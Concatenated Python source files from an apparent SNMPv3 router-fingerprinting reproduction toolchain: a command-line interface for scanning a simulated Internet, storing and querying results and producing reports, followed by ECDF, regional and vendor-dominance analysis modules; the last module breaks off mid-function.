    lab = sub.add_parser("lab", help="run the §6.2.1 lab validation")
    lab.set_defaults(func=_cmd_lab)
    return parser


def main(argv: "list[str] | None" = None) -> int:
    parser = build_parser()
    args = parser.parse_args(argv)
    try:
        return args.func(args)
    except ValueError as exc:
        print(f"error: {exc}", file=sys.stderr)
        return 2


if __name__ == "__main__":
    raise SystemExit(main())
