"""Command-line interface.

Four subcommands mirror the measurement workflow::

    snmpv3-repro scan    --scale 300 --out runs/demo     # campaign -> JSONL
    snmpv3-repro scan    --workers 4 --stats ...         # sharded engine
    snmpv3-repro scan    --store obs ...                 # + stream into a store
    snmpv3-repro analyze runs/demo                       # filter+alias+census
    snmpv3-repro report  --scale 100 [--quick]           # full paper report
    snmpv3-repro publish --scale 100 --out published     # figure CSVs
    snmpv3-repro store   ingest runs/demo --store obs    # JSONL -> observatory
    snmpv3-repro store   query --store obs --ip 1.2.3.4  # point queries
    snmpv3-repro store   timeline --store obs            # reboots/churn/diffs
    snmpv3-repro store   compact --store obs             # merge segments
    snmpv3-repro serve   --store obs --port 8350         # HTTP query service
    snmpv3-repro schedule --store obs --max-runs 4       # scheduler daemon
    snmpv3-repro lab                                     # §6.2.1 bench run

``scan`` exports the four raw scans; ``analyze`` consumes those files —
so the two stages can run on different machines, the way the paper's
collection and analysis separate.  The ``store`` verbs maintain the
persistent longitudinal observatory (:mod:`repro.store`): rounds of
scans, indexed queries and incremental device timelines.  ``serve`` and
``schedule`` put :mod:`repro.service` on top of a store — a concurrent
HTTP/JSON query service and the deterministic continuous-scan scheduler
daemon.  ``python -m repro`` is equivalent.
"""

from __future__ import annotations

import argparse
import sys
from collections import Counter
from pathlib import Path
from typing import TYPE_CHECKING

from repro.clock import Clock, Stopwatch

if TYPE_CHECKING:  # pragma: no cover - types only
    from repro.store import Store

#: Elapsed-time reporting goes through an injectable clock (DET001 bans
#: ambient ``time.time()``); tests may swap in a ``ManualClock``.
DEFAULT_CLOCK: "Clock | None" = None


def _cmd_scan(args: argparse.Namespace) -> int:
    from dataclasses import replace

    from repro.io import ScanJsonlWriter
    from repro.scanner.campaign import ScanCampaign
    from repro.scanner.executor import ExecutionOptions, RetryPolicy
    from repro.topology.config import TopologyConfig
    from repro.topology.datasets import load_topology_file
    from repro.topology.generator import build_topology
    from repro.topology.lazy import LazyTopology
    from repro.topology.model import Topology

    out = Path(args.out)
    out.mkdir(parents=True, exist_ok=True)
    if args.topology_file and (args.lazy or args.layout):
        raise ValueError(
            "--topology-file loads a fixed topology; it cannot be "
            "combined with --lazy or --layout"
        )
    if args.lazy and args.layout == "sequential":
        raise ValueError("--lazy requires the streamed layout")
    config = TopologyConfig.paper_scale(divisor=args.scale, seed=args.seed)
    if args.lazy or args.layout == "streamed":
        config = replace(config, layout="streamed")
    stopwatch = Stopwatch(DEFAULT_CLOCK)
    topology: "Topology | LazyTopology"
    if args.topology_file:
        print(f"loading topology from {args.topology_file}...")
        topology = load_topology_file(args.topology_file, seed=args.seed)
    elif args.lazy:
        print(f"lazy simulated Internet (1/{args.scale:g} scale, "
              f"seed {args.seed}): devices derived at probe time...")
        topology = LazyTopology(config=config, max_resident=args.max_resident)
    else:
        print(f"building simulated Internet (1/{args.scale:g} scale, "
              f"seed {args.seed})...")
        topology = build_topology(config)
    retry = None
    if args.retries or args.timeout is not None:
        retry = RetryPolicy(
            max_retries=args.retries,
            timeout=args.timeout if args.timeout is not None else 1.0,
        )
    # Every execution flag funnels into the one blessed options object.
    options = ExecutionOptions(
        workers=args.workers,
        num_shards=args.shards,
        batch_size=args.batch_size,
        window=args.window,
        pipeline=False if args.no_pipeline else None,
        fault_profile=args.fault_profile,
        retry=retry,
        profile=args.profile,
        target_window=args.target_window,
    )
    campaign = ScanCampaign(topology=topology, config=config, options=options)
    store = None
    round_id = None
    if args.store:
        from repro.store import Store

        store = Store(root=args.store)
        round_id = (
            args.store_round
            if args.store_round is not None
            else store.next_round_id()
        )
    summaries = []
    # Streaming export: observation batches go straight from the executor
    # to disk (and into the store when one is attached), so even a
    # full-scale campaign is never materialized.
    for stream in campaign.run_streaming():
        path = out / f"scan-{stream.label}.jsonl"
        with ScanJsonlWriter(
            path,
            label=stream.label,
            ip_version=stream.ip_version,
            started_at=stream.started_at,
        ) as writer:
            stream.attach_sink(writer.write_batch)
            if store is not None:
                store.ingest_stream(stream, round_id=round_id)
            else:
                # Drain through the sink so the JSONL write lands in the
                # scan's ingest_time edge metric.
                for _ in stream.batches():
                    pass
            writer.finished_at = stream.execution.finished_at
            writer.targets_probed = stream.execution.metrics.probes_sent
        print(f"  {path}: {writer.records} responsive IPs "
              f"({writer.targets_probed} probed)")
        summaries.append(stream.execution.metrics.summary())
    if store is not None:
        print(f"  store: round {round_id} ingested into {args.store}")
    if args.stats or args.profile:
        for line in summaries:
            print(f"  {line}")
    print(f"done in {stopwatch.elapsed():.1f}s")
    return 0


def _cmd_analyze(args: argparse.Namespace) -> int:
    from repro.alias.snmpv3 import resolve_dual_stack
    from repro.fingerprint.vendor import vendor_of_alias_set
    from repro.io import (
        export_alias_sets_csv,
        export_alias_sets_jsonl,
        export_vendor_census_csv,
        iter_scan_jsonl,
    )
    from repro.pipeline.filters import FilterPipeline

    run_dir = Path(args.run_dir)
    paths = {}
    for label in ("v4-1", "v4-2", "v6-1", "v6-2"):
        path = run_dir / f"scan-{label}.jsonl"
        if not path.exists():
            print(f"error: missing {path}", file=sys.stderr)
            return 2
        paths[label] = path

    # Stream each scan pair off disk through the pipeline; only the
    # pipeline's own bounded state is ever resident.
    pipeline = FilterPipeline(reboot_threshold=args.threshold)
    result_v4 = pipeline.run_stream(
        iter_scan_jsonl(paths["v4-1"]), iter_scan_jsonl(paths["v4-2"])
    )
    result_v6 = pipeline.run_stream(
        iter_scan_jsonl(paths["v6-1"]), iter_scan_jsonl(paths["v6-2"])
    )
    print(f"valid records: {len(result_v4.valid)} IPv4, {len(result_v6.valid)} IPv6")
    for name, count in result_v4.stats.removed.items():
        if count:
            print(f"  filter {name}: removed {count} (IPv4)")

    dual = resolve_dual_stack(result_v4.valid, result_v6.valid)
    print(f"alias sets: {dual.count} devices, "
          f"{dual.non_singleton_count} with multiple addresses")
    export_alias_sets_jsonl(dual, run_dir / "alias-sets.jsonl")
    export_alias_sets_csv(dual, run_dir / "alias-sets.csv")

    records = {r.address: r for r in result_v4.valid + result_v6.valid}
    census = Counter()
    for group in dual.sets:
        engine_ids = [records[a].engine_id for a in group if a in records]
        census[vendor_of_alias_set(engine_ids).vendor] += 1
    export_vendor_census_csv(census.most_common(), run_dir / "vendor-census.csv")
    print("top vendors: " + ", ".join(f"{v} {c}" for v, c in census.most_common(5)))
    print(f"artifacts written to {run_dir}/")
    return 0


def _cmd_report(args: argparse.Namespace) -> int:
    from repro.experiments import ExperimentContext
    from repro.experiments.report import render_full_report
    from repro.topology.config import TopologyConfig

    config = TopologyConfig.paper_scale(divisor=args.scale, seed=args.seed)
    if args.topology_file:
        print(f"running full reproduction over {args.topology_file}...",
              file=sys.stderr)
    else:
        print(f"running full reproduction (1/{args.scale:g} scale)...",
              file=sys.stderr)
    ctx = ExperimentContext.create(config, topology_file=args.topology_file)
    text = render_full_report(ctx, include_comparators=not args.quick)
    if args.out:
        Path(args.out).write_text(text, encoding="utf-8")
        print(f"report written to {args.out}", file=sys.stderr)
    else:
        print(text)
    return 0


def _cmd_publish(args: argparse.Namespace) -> int:
    from repro.experiments import ExperimentContext
    from repro.experiments.publish import publish_all
    from repro.topology.config import TopologyConfig

    config = TopologyConfig.paper_scale(divisor=args.scale, seed=args.seed)
    print(f"running measurement (1/{args.scale:g} scale)...", file=sys.stderr)
    ctx = ExperimentContext.create(config, topology_file=args.topology_file)
    files = publish_all(ctx, args.out)
    print(f"wrote {len(files)} CSV artifacts to {args.out}/")
    return 0


def _store_open(args: argparse.Namespace) -> "Store":
    from repro.store import Store

    return Store(root=args.store)


def _cmd_store_ingest(args: argparse.Namespace) -> int:
    from repro.io import read_scan_header

    store = _store_open(args)
    run_dir = Path(args.run_dir)
    paths = sorted(run_dir.glob("scan-*.jsonl"))
    if not paths:
        print(f"error: no scan-*.jsonl exports in {run_dir}", file=sys.stderr)
        return 2
    round_id = args.round if args.round is not None else store.next_round_id()
    # Ingest in virtual-schedule order so the catalogue reads naturally.
    paths.sort(key=lambda p: read_scan_header(p)["started_at"])
    total = 0
    for path in paths:
        stats = store.import_jsonl(path, round_id=round_id)
        total += stats.rows
        print(f"  {path.name}: {stats.rows} rows -> "
              f"{stats.segments} segment(s), {stats.bytes_written} bytes")
    print(f"round {round_id}: {total} rows from {len(paths)} scans")
    return 0


def _cmd_store_import_jsonl(args: argparse.Namespace) -> int:
    store = _store_open(args)
    round_id = args.round if args.round is not None else store.next_round_id()
    for path in args.files:
        stats = store.import_jsonl(path, round_id=round_id, label=args.label)
        print(f"  {path}: {stats.rows} rows into round {round_id} "
              f"({stats.label})")
    return 0


def _cmd_store_export_jsonl(args: argparse.Namespace) -> int:
    store = _store_open(args)
    records = store.export_jsonl(args.round, args.label, args.out)
    print(f"{args.out}: {records} rows (round {args.round}, {args.label})")
    return 0


def _cmd_store_query(args: argparse.Namespace) -> int:
    import json as _json

    query = _store_open(args).query()
    if args.ip:
        rows = [
            {
                "round": s.round_id,
                "label": s.label,
                "recv_time": s.observation.recv_time,
                "engine_id": (
                    s.observation.engine_id.raw.hex()
                    if s.observation.engine_id
                    else None
                ),
                "engine_boots": s.observation.engine_boots,
                "engine_time": s.observation.engine_time,
            }
            for s in query.history(args.ip)
        ]
        print(_json.dumps({"ip": args.ip, "history": rows}, indent=2))
        return 0
    if args.engine_id:
        ips = [str(a) for a in query.ips_with_engine_id(args.engine_id)]
        print(_json.dumps({"engine_id": args.engine_id, "ips": ips}, indent=2))
        return 0
    census = query.vendor_census()
    print(f"devices: {query.device_count}")
    for vendor, count in census[: args.top]:
        print(f"  {vendor:20s} {count}")
    return 0


def _cmd_store_timeline(args: argparse.Namespace) -> int:
    import json as _json

    query = _store_open(args).query()
    if args.engine_id:
        timeline = query.timeline(args.engine_id)
        if timeline is None:
            print(f"error: engine ID {args.engine_id} not in store",
                  file=sys.stderr)
            return 2
        payload = {
            "engine_id": args.engine_id,
            "rounds_seen": timeline.rounds_seen,
            "sightings": len(timeline.sightings),
            "reboot_events": [
                {
                    "round": e.round_id,
                    "label": e.label,
                    "kind": e.kind,
                    "boots": [e.boots_before, e.boots_after],
                    "reboot_time": e.reboot_time,
                }
                for e in timeline.reboot_events
            ],
            "members": {
                str(rid): sorted(str(a) for a in members)
                for rid, members in timeline.member_history()
            },
        }
        print(_json.dumps(payload, indent=2))
        return 0
    summary = query.timeline_summary()
    if args.json:
        print(_json.dumps(summary, indent=2))
    else:
        print(f"rounds folded: {summary['rounds']}")
        print(f"devices: {summary['devices']}, "
              f"sightings: {summary['sightings']}")
        print(f"reboot events: {summary['reboot_events']} "
              f"({summary['boots_increment_events']} boots-increment, "
              f"{summary['time_regression_events']} engine-time-regression)")
        for diff in summary["diffs"]:
            print(f"  round {diff['prev_round']} -> {diff['next_round']}: "
                  f"+{diff['born']} born, -{diff['died']} died, "
                  f"{diff['moved']} moved")
    return 0


def _cmd_store_compact(args: argparse.Namespace) -> int:
    stats = _store_open(args).compact()
    print(f"compacted {stats.scans_compacted} scans: "
          f"{stats.segments_before} -> {stats.segments_after} segments, "
          f"{stats.bytes_before} -> {stats.bytes_after} bytes")
    return 0


def _cmd_store_stats(args: argparse.Namespace) -> int:
    import json as _json

    store = _store_open(args)
    stats = store.stats()
    stats["timeline"] = store.timelines().summary()
    if args.json:
        print(_json.dumps(stats, indent=2, sort_keys=True))
    else:
        print(f"store at {args.store}: {stats['rounds']} rounds, "
              f"{stats['rows']} rows in {stats['segments']} segments "
              f"({stats['segment_bytes']} bytes, "
              f"{stats['bytes_per_row']:.1f} B/row)")
    return 0


def _cmd_serve(args: argparse.Namespace) -> int:
    import signal
    import threading

    from repro.net.ratelimit import RateLimit
    from repro.service.http import ServiceHttpServer
    from repro.service.query import QueryService

    rate_limit = None
    if args.rate_limit is not None:
        rate_limit = RateLimit(rate=args.rate_limit, burst=args.burst)
    service = QueryService(
        store=args.store,
        cache_entries=args.cache_entries,
        rate_limit=rate_limit,
    )
    server = ServiceHttpServer(
        service=service, host=args.host, port=args.port
    )
    host, port = server.address
    print(f"serving {args.store} on http://{host}:{port}/ "
          f"(endpoints: {', '.join(service.endpoints())})")

    # Serve on a background thread; the main thread parks on an event so
    # the signal handler never has to join the serving loop it runs on.
    stop = threading.Event()

    def _shutdown(signum: int, frame: object) -> None:
        stop.set()

    signal.signal(signal.SIGTERM, _shutdown)
    signal.signal(signal.SIGINT, _shutdown)
    server.start()
    try:
        stop.wait()
    finally:
        server.close()
        print("server closed")
    return 0


def _cmd_schedule(args: argparse.Namespace) -> int:
    import json as _json
    import signal
    import time as _time

    from repro.api import Session
    from repro.clock import ManualClock, PerfCounterClock
    from repro.service.scheduler import JobSpec

    session = Session(scale=args.scale, seed=args.seed, store=args.store)
    jobs = (
        JobSpec(name="sweep", kind="sweep", period=args.sweep_period,
                jitter=args.jitter),
        JobSpec(name="reprobe", kind="reprobe", period=args.reprobe_period,
                offset=args.sweep_period / 2.0, jitter=args.jitter),
    )
    if args.real:
        scheduler = session.scheduler(
            jobs=jobs, clock=PerfCounterClock(), waiter=_time.sleep
        )
    else:
        scheduler = session.scheduler(jobs=jobs, clock=ManualClock(0.0))

    def _drain(signum: int, frame: object) -> None:
        print("stop requested: draining the in-flight job...",
              file=sys.stderr)
        scheduler.request_stop()

    signal.signal(signal.SIGTERM, _drain)
    signal.signal(signal.SIGINT, _drain)
    if scheduler.incomplete_rounds:
        print(f"resume: ignoring incomplete rounds "
              f"{scheduler.incomplete_rounds}", file=sys.stderr)
    runs = scheduler.run(max_runs=args.max_runs)
    run_stream = sys.stderr if args.json else sys.stdout
    for run in runs:
        print(f"  [{run.finished:10.1f}] {run.job} #{run.firing}: "
              f"round {run.round_id}, {run.rows} rows "
              f"({run.targets} targets, {run.skipped_firings} skipped)",
              file=run_stream)
    if args.json:
        print(_json.dumps(scheduler.summary(), indent=2, sort_keys=True))
    return 0


def _cmd_lab(args: argparse.Namespace) -> int:
    from repro.experiments.lab import default_lab, run_lab_experiment

    failures = 0
    for router in default_lab():
        report = run_lab_experiment(router)
        verdicts = {
            "silent before config": not report.answers_before_config,
            "v2c after community": report.v2c_works_after_config,
            "v3 implicitly enabled": report.v3_discovery_after_config,
            "engine ID is MAC": report.engine_id_is_mac,
            "same ID on all interfaces": report.same_engine_id_on_all_interfaces,
            "first-interface MAC": report.engine_mac_is_first_interface,
        }
        print(f"{report.router}:")
        for name, passed in verdicts.items():
            print(f"  [{'ok' if passed else 'FAIL'}] {name}")
            failures += 0 if passed else 1
    return 1 if failures else 0


def build_parser() -> argparse.ArgumentParser:
    parser = argparse.ArgumentParser(
        prog="snmpv3-repro",
        description="SNMPv3 router-fingerprinting reproduction toolchain",
    )
    sub = parser.add_subparsers(dest="command", required=True)

    scan = sub.add_parser("scan", help="run the four-scan campaign, export JSONL")
    scan.add_argument("--scale", type=float, default=300.0)
    scan.add_argument("--seed", type=int, default=2021)
    scan.add_argument("--out", default="runs/latest")
    scan.add_argument("--workers", type=int, default=None,
                      help="worker processes for the sharded engine (default 1)")
    scan.add_argument("--shards", type=int, default=None,
                      help="shard count (default 16; results are "
                           "worker-count independent at a fixed shard count)")
    scan.add_argument("--batch-size", type=int, default=None,
                      help="observations per streamed batch (default 2048)")
    scan.add_argument("--window", type=int, default=None,
                      help="probes in flight per pipeline stage "
                           "(default 512; results are window-invariant)")
    scan.add_argument("--layout", default=None,
                      choices=("sequential", "streamed"),
                      help="topology layout (streamed derives every device "
                           "from (seed, address) alone)")
    scan.add_argument("--lazy", action="store_true",
                      help="derive devices on demand during the scan "
                           "instead of materializing the topology "
                           "(implies --layout streamed; byte-identical "
                           "results, constant memory)")
    scan.add_argument("--max-resident", type=int, default=None,
                      help="with --lazy: cap on concurrently derived "
                           "devices (default 4096)")
    scan.add_argument("--topology-file", default=None,
                      help="load the topology from an ITDK-style "
                           "description file instead of generating one")
    scan.add_argument("--target-window", type=int, default=None,
                      help="targets planned per streaming window "
                           "(default 65536; like --shards, part of the "
                           "deterministic result geometry)")
    scan.add_argument("--no-pipeline", action="store_true",
                      help="use the historical per-probe loop instead of "
                           "the batch pipeline (byte-identical; for A/B "
                           "timing comparisons)")
    from repro.net.faults import FAULT_PROFILES
    scan.add_argument("--fault-profile", default=None,
                      choices=sorted(FAULT_PROFILES),
                      help="inject wire faults from a stock profile "
                           "(deterministic per seed)")
    scan.add_argument("--retries", type=int, default=0,
                      help="extra probes per unanswered target (default 0)")
    scan.add_argument("--timeout", type=float, default=None,
                      help="per-probe reply deadline in virtual seconds "
                           "(default 1.0 when --retries is set)")
    scan.add_argument("--store", default=None,
                      help="also stream the campaign into this observatory "
                           "store as one round")
    scan.add_argument("--store-round", type=int, default=None,
                      help="round id for --store (default: next free)")
    scan.add_argument("--stats", action="store_true",
                      help="print per-scan execution metrics")
    scan.add_argument("--profile", action="store_true",
                      help="collect per-stage timings (encode/fabric/agent/"
                           "decode) plus the non-probe campaign edges "
                           "(plan/derive/ingest) into the metrics; "
                           "implies --stats")
    scan.set_defaults(func=_cmd_scan)

    analyze = sub.add_parser("analyze", help="filter + alias + census from exports")
    analyze.add_argument("run_dir")
    analyze.add_argument("--threshold", type=float, default=10.0,
                         help="last-reboot consistency threshold in seconds")
    analyze.set_defaults(func=_cmd_analyze)

    report = sub.add_parser("report", help="full table/figure reproduction")
    report.add_argument("--scale", type=float, default=100.0)
    report.add_argument("--seed", type=int, default=2021)
    report.add_argument("--quick", action="store_true")
    report.add_argument("--out", default=None)
    report.add_argument("--topology-file", default=None,
                        help="evaluate a world loaded from an ITDK-style "
                             "topology description instead of a generated "
                             "one")
    report.set_defaults(func=_cmd_report)

    publish = sub.add_parser(
        "publish", help="export every figure/table series as CSV (snmpv3.io-style)"
    )
    publish.add_argument("--scale", type=float, default=100.0)
    publish.add_argument("--seed", type=int, default=2021)
    publish.add_argument("--out", default="published")
    publish.add_argument("--topology-file", default=None,
                         help="evaluate a world loaded from an ITDK-style "
                              "topology description instead of a generated "
                              "one")
    publish.set_defaults(func=_cmd_publish)

    store = sub.add_parser(
        "store", help="persistent observatory: ingest, query, timelines"
    )
    store_sub = store.add_subparsers(dest="store_command", required=True)

    def _store_parser(name: str, help_text: str) -> argparse.ArgumentParser:
        sub_parser = store_sub.add_parser(name, help=help_text)
        sub_parser.add_argument("--store", required=True,
                                help="store directory (created if missing)")
        return sub_parser

    ingest = _store_parser("ingest", "ingest a scan run directory as one round")
    ingest.add_argument("run_dir", help="directory of scan-*.jsonl exports")
    ingest.add_argument("--round", type=int, default=None,
                        help="round id (default: next free round)")
    ingest.set_defaults(func=_cmd_store_ingest)

    import_jsonl = _store_parser(
        "import-jsonl", "backfill individual JSONL exports into a round"
    )
    import_jsonl.add_argument("files", nargs="+")
    import_jsonl.add_argument("--round", type=int, default=None)
    import_jsonl.add_argument("--label", default=None,
                              help="override the label recorded in the file")
    import_jsonl.set_defaults(func=_cmd_store_import_jsonl)

    export_jsonl = _store_parser(
        "export-jsonl", "write one stored scan back out as JSONL"
    )
    export_jsonl.add_argument("--round", type=int, required=True)
    export_jsonl.add_argument("--label", required=True)
    export_jsonl.add_argument("--out", required=True)
    export_jsonl.set_defaults(func=_cmd_store_export_jsonl)

    store_query = _store_parser("query", "point queries and vendor rollups")
    store_query.add_argument("--ip", default=None,
                             help="observation history of one address")
    store_query.add_argument("--engine-id", default=None,
                             help="addresses that answered with this "
                                  "engine ID (hex)")
    store_query.add_argument("--top", type=int, default=10,
                             help="vendor-census rows to print (default 10)")
    store_query.set_defaults(func=_cmd_store_query)

    store_timeline = _store_parser(
        "timeline", "longitudinal summaries: reboots, churn, alias diffs"
    )
    store_timeline.add_argument("--engine-id", default=None,
                                help="one device's full timeline (hex)")
    store_timeline.add_argument("--json", action="store_true")
    store_timeline.set_defaults(func=_cmd_store_timeline)

    store_compact = _store_parser(
        "compact", "merge segment parts (query answers are invariant)"
    )
    store_compact.set_defaults(func=_cmd_store_compact)

    store_stats = _store_parser("stats", "physical/logical store shape")
    store_stats.add_argument("--json", action="store_true")
    store_stats.set_defaults(func=_cmd_store_stats)

    serve = sub.add_parser(
        "serve", help="HTTP/JSON query service over an observatory store"
    )
    serve.add_argument("--store", required=True,
                       help="store directory to serve")
    serve.add_argument("--host", default="127.0.0.1")
    serve.add_argument("--port", type=int, default=8350)
    serve.add_argument("--cache-entries", type=int, default=512,
                       help="LRU result-cache capacity (default 512)")
    serve.add_argument("--rate-limit", type=float, default=None,
                       help="per-client requests/second (default: unlimited)")
    serve.add_argument("--burst", type=float, default=8.0,
                       help="per-client burst allowance with --rate-limit")
    serve.set_defaults(func=_cmd_serve)

    schedule = sub.add_parser(
        "schedule", help="run the continuous-scan scheduler over a store"
    )
    schedule.add_argument("--store", required=True,
                          help="store directory (resumed if it exists)")
    schedule.add_argument("--scale", type=float, default=300.0)
    schedule.add_argument("--seed", type=int, default=2021)
    schedule.add_argument("--max-runs", type=int, default=4,
                          help="jobs to execute before exiting (default 4)")
    schedule.add_argument("--sweep-period", type=float, default=86400.0,
                          help="seconds between full sweeps (default 86400)")
    schedule.add_argument("--reprobe-period", type=float, default=21600.0,
                          help="seconds between churn re-probes "
                               "(default 21600)")
    schedule.add_argument("--jitter", type=float, default=60.0,
                          help="max seeded per-firing jitter (default 60)")
    schedule.add_argument("--real", action="store_true",
                          help="pace jobs on the wall clock instead of the "
                               "virtual manual clock")
    schedule.add_argument("--json", action="store_true",
                          help="print the full scheduler summary as JSON")
    schedule.set_defaults(func=_cmd_schedule)

    lab = sub.add_parser("lab", help="run the §6.2.1 lab validation")
    lab.set_defaults(func=_cmd_lab)
    return parser


def main(argv: "list[str] | None" = None) -> int:
    parser = build_parser()
    args = parser.parse_args(argv)
    try:
        return args.func(args)
    except ValueError as exc:
        print(f"error: {exc}", file=sys.stderr)
        return 2


if __name__ == "__main__":
    raise SystemExit(main())
