"""Empirical cumulative distribution functions.

Nearly every figure in the paper is an ECDF; this class is the common
representation the experiment modules emit, with evaluation, quantiles
and a plain-text renderer for the benchmark reports.
"""

from __future__ import annotations

import bisect
from dataclasses import dataclass
from typing import Iterable, Sequence


@dataclass(frozen=True)
class Ecdf:
    """An immutable ECDF over real values."""

    values: tuple[float, ...]

    @classmethod
    def from_values(cls, values: Iterable[float]) -> "Ecdf":
        return cls(values=tuple(sorted(float(v) for v in values)))

    @property
    def count(self) -> int:
        return len(self.values)

    def at(self, x: float) -> float:
        """P(X <= x)."""
        if not self.values:
            raise ValueError("ECDF over no values")
        return bisect.bisect_right(self.values, x) / len(self.values)

    def fraction_above(self, x: float) -> float:
        """P(X > x)."""
        return 1.0 - self.at(x)

    def fraction_at_least(self, x: float) -> float:
        """P(X >= x)."""
        if not self.values:
            raise ValueError("ECDF over no values")
        return 1.0 - bisect.bisect_left(self.values, x) / len(self.values)

    def quantile(self, q: float) -> float:
        """The q-quantile (0 <= q <= 1), by the nearest-rank method."""
        if not self.values:
            raise ValueError("ECDF over no values")
        if not 0.0 <= q <= 1.0:
            raise ValueError(f"quantile out of range: {q}")
        if q == 0.0:
            return self.values[0]
        rank = max(0, min(len(self.values) - 1, int(q * len(self.values) + 0.5) - 1))
        return self.values[rank]

    @property
    def median(self) -> float:
        return self.quantile(0.5)

    def series(self, points: "Sequence[float] | None" = None) -> list[tuple[float, float]]:
        """(x, P(X<=x)) pairs — the plottable curve."""
        if points is None:
            points = sorted(set(self.values))
        return [(float(x), self.at(x)) for x in points]

    def render(self, label: str, points: Sequence[float], width: int = 40) -> str:
        """ASCII rendering for benchmark reports."""
        lines = [f"ECDF: {label} (n={self.count})"]
        for x in points:
            frac = self.at(x)
            bar = "#" * int(frac * width)
            lines.append(f"  x<={x:>12.6g}  {frac:6.1%} |{bar}")
        return "\n".join(lines)
