"""Analysis utilities behind the paper's figures.

* :mod:`repro.analysis.ecdf` — empirical CDFs (most figures are ECDFs);
* :mod:`repro.analysis.hamming` — Hamming-weight randomness analysis
  (Figure 6);
* :mod:`repro.analysis.coverage` — per-AS SNMPv3 responsiveness coverage
  (Figure 10, §5.4's combined-coverage numbers);
* :mod:`repro.analysis.dominance` — vendors per AS and vendor dominance
  (Figures 14/17);
* :mod:`repro.analysis.regional` — per-region aggregations (Figures
  15/16/18/20).
"""

from repro.analysis.amplification import AmplificationReport, analyze_amplification
from repro.analysis.ecdf import Ecdf
from repro.analysis.statistics import (
    bootstrap_interval,
    compare_proportions,
    vendor_share_intervals,
    wilson_interval,
)
from repro.analysis.hamming import hamming_weight_distribution, skewness
from repro.analysis.coverage import AsCoverage, CombinedCoverage, as_coverage, combined_coverage
from repro.analysis.dominance import as_vendor_profiles, dominance_values, vendors_per_as
from repro.analysis.regional import (
    regional_dominance,
    regional_router_counts,
    regional_vendor_shares,
    top_networks_vendor_mix,
)

__all__ = [
    "AmplificationReport",
    "AsCoverage",
    "CombinedCoverage",
    "Ecdf",
    "as_coverage",
    "as_vendor_profiles",
    "combined_coverage",
    "dominance_values",
    "analyze_amplification",
    "bootstrap_interval",
    "compare_proportions",
    "hamming_weight_distribution",
    "regional_dominance",
    "regional_router_counts",
    "regional_vendor_shares",
    "skewness",
    "top_networks_vendor_mix",
    "vendor_share_intervals",
    "wilson_interval",
    "vendors_per_as",
]
