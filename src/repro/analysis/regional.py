"""Regional aggregations (Figures 15/16/18/20).

All functions consume the per-AS router-vendor mapping produced by the
fingerprinting stage, joined with the topology's AS-to-region assignment
(the stand-in for CAIDA AS Rank's AS-to-country mapping in Appendix C).
"""

from __future__ import annotations

from dataclasses import dataclass

from repro.analysis.dominance import AsVendorProfile
from repro.analysis.ecdf import Ecdf
from repro.topology.model import Region, Topology

#: The vendor columns of the Figure 15/16 heat maps.
HEATMAP_VENDORS = ("Cisco", "Huawei", "Net-SNMP", "Juniper")


def _region_of(topology: Topology, asn: int) -> Region:
    return topology.ases[asn].region


def regional_vendor_shares(
    topology: Topology, profiles: "list[AsVendorProfile]"
) -> dict[Region, dict[str, float]]:
    """Figure 15: per-region market share over the heat-map vendors+Other."""
    totals: dict[Region, dict[str, int]] = {}
    for profile in profiles:
        region = _region_of(topology, profile.asn)
        bucket = totals.setdefault(region, {})
        for vendor, count in profile.vendor_counts.items():
            column = vendor if vendor in HEATMAP_VENDORS else "Other"
            bucket[column] = bucket.get(column, 0) + count
    shares: dict[Region, dict[str, float]] = {}
    for region, counts in totals.items():
        total = sum(counts.values())
        shares[region] = {
            column: counts.get(column, 0) / total
            for column in (*HEATMAP_VENDORS, "Other")
        }
    return shares


def regional_router_counts(
    topology: Topology, profiles: "list[AsVendorProfile]"
) -> dict[Region, int]:
    """Total fingerprinted routers per region (Figure 15's parentheses)."""
    totals: dict[Region, int] = {}
    for profile in profiles:
        region = _region_of(topology, profile.asn)
        totals[region] = totals.get(region, 0) + profile.router_count
    return totals


@dataclass(frozen=True)
class TopNetwork:
    """One row of Figure 16."""

    asn: int
    region: Region
    router_count: int
    vendor_shares: dict[str, float]

    @property
    def dominant_vendor(self) -> str:
        return max(self.vendor_shares, key=self.vendor_shares.get)


def top_networks_vendor_mix(
    topology: Topology, profiles: "list[AsVendorProfile]", n: int = 10
) -> list[TopNetwork]:
    """Figure 16: the n largest networks by router count, with vendor mix."""
    ranked = sorted(profiles, key=lambda p: p.router_count, reverse=True)[:n]
    rows = []
    for profile in ranked:
        total = profile.router_count
        shares = {
            column: sum(
                c for v, c in profile.vendor_counts.items()
                if (v if v in HEATMAP_VENDORS else "Other") == column
            ) / total
            for column in (*HEATMAP_VENDORS, "Other")
        }
        rows.append(
            TopNetwork(
                asn=profile.asn,
                region=_region_of(topology, profile.asn),
                router_count=total,
                vendor_shares=shares,
            )
        )
    return rows


def regional_dominance(
    topology: Topology, profiles: "list[AsVendorProfile]", min_routers: int = 10
) -> dict[Region, Ecdf]:
    """Figure 18: per-region dominance ECDFs over ASes of a minimum size."""
    values: dict[Region, list[float]] = {}
    for profile in profiles:
        if profile.router_count < min_routers:
            continue
        region = _region_of(topology, profile.asn)
        values.setdefault(region, []).append(profile.dominance)
    return {region: Ecdf.from_values(v) for region, v in values.items()}


def routers_per_as_by_region(
    topology: Topology, profiles: "list[AsVendorProfile]"
) -> dict[Region, Ecdf]:
    """Figure 20 (Appendix C): routers-per-AS ECDF per region."""
    values: dict[Region, list[float]] = {}
    for profile in profiles:
        region = _region_of(topology, profile.asn)
        values.setdefault(region, []).append(float(profile.router_count))
    return {region: Ecdf.from_values(v) for region, v in values.items()}
