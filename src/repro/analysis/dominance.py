"""Per-AS vendor profiles: vendors per AS and vendor dominance.

Figure 14 plots how many distinct router vendors appear inside one AS;
Figure 17 plots *vendor dominance* — the paper's metric for homogeneity:
the fraction of an AS's routers that belong to its most common vendor.
High dominance means one vendor's vulnerability can take out most of the
network.
"""

from __future__ import annotations

from dataclasses import dataclass

from repro.analysis.ecdf import Ecdf


@dataclass(frozen=True)
class AsVendorProfile:
    """Vendor composition of one AS's fingerprinted routers."""

    asn: int
    vendor_counts: dict[str, int]

    @property
    def router_count(self) -> int:
        return sum(self.vendor_counts.values())

    @property
    def vendor_count(self) -> int:
        return len(self.vendor_counts)

    @property
    def dominant_vendor(self) -> str:
        return max(self.vendor_counts, key=self.vendor_counts.get)

    @property
    def dominance(self) -> float:
        """Fraction of routers belonging to the most common vendor."""
        total = self.router_count
        if total == 0:
            return 0.0
        return max(self.vendor_counts.values()) / total


def as_vendor_profiles(
    router_vendor_by_as: "dict[int, list[str]]",
